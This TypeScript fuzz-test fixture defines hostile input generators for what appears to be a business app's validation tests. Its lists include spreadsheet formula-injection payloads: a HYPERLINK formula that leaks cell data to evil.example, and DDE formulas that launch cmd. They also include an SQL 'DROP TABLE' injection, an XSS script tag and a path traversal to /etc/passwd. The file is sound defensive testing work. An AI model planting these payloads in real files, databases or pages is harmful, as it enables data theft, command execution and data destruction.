// The hostile values of the bad-input fuzz tests: text that breaks naive code (huge,
// control characters, emoji, right-to-left, formula text a spreadsheet would run),
// numbers a float would get wrong, and values of the wrong type.
import fc from 'fast-check';

export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=1+1',
  '+61 412 345 678',
  '-2+3',
  '-12.50',
  '@SUM(A1:A9)',
  '\t=cmd|"/C calc"!A0',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
];
const SPECIAL = [
  '',
  ' ',
  'O\'Brien "Plumbing", Pty Ltd',
  'Line one\nLine two',
  'Line one\r\nLine two',
  'مرحبا بالعالم',
  '\u202Egnp.exe',
  'שלום, עולם',
  '🔧🚿 Plumbing 👨‍👩‍👧',
  'a\u0000b\u0007c\u001bd',
  '\uFEFFbom',
  '\uD800',
  "Robert'); DROP TABLE clients;--",
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '%s%n%x',
];

/** Text a user or an API could hold: hostile constants, random unicode, control characters, and the odd huge one. */
export const hostileText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...FORMULAS, ...SPECIAL) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc.string({ unit: fc.constantFrom('\u0000', '\u0001', '\u001f', '\u007f', '\t', '\r', '\n', 'x'), maxLength: 20 }),
  },
  { weight: 1, arbitrary: fc.constantFrom(...FORMULAS, ...SPECIAL).map((s) => s.repeat(5000)) },
);

/** Decimal amount text: many places, signs, zero, huge. */
export const decimalAmountText = fc.oneof(
  fc
    .tuple(fc.boolean(), fc.bigInt({ min: 0n, max: 10n ** 12n }), fc.option(fc.stringMatching(/^\d{1,12}$/), { nil: undefined }))
    .map(([negative, whole, fraction]) => `${negative ? '-' : ''}${whole}${fraction === undefined ? '' : `.${fraction}`}`),
  fc.constantFrom(
    '0',
    '0.00',
    '-0.00',
    '0.005',
    '-0.005',
    '0.0049999',
    '1234.5600',
    '99999999999999.99',
    '1e3',
    '12,50',
    '$12',
    ' 12.5 ',
    '.5',
    '5.',
  ),
);

/** Values of any JSON type, including nested objects and arrays. */
export const wrongType = fc.oneof(
  fc.constantFrom(null, true, false, 0, -1, 1.5, 1e21, -1e21, Number.MAX_SAFE_INTEGER, 2 ** 53 + 2, '', [], {}, [1], { a: 1 }),
  fc.jsonValue({ maxDepth: 2 }),
);

/** A value for any field: mostly wrong types and hostile text. */
export const anyFieldValue = fc.oneof(wrongType, hostileText, decimalAmountText);
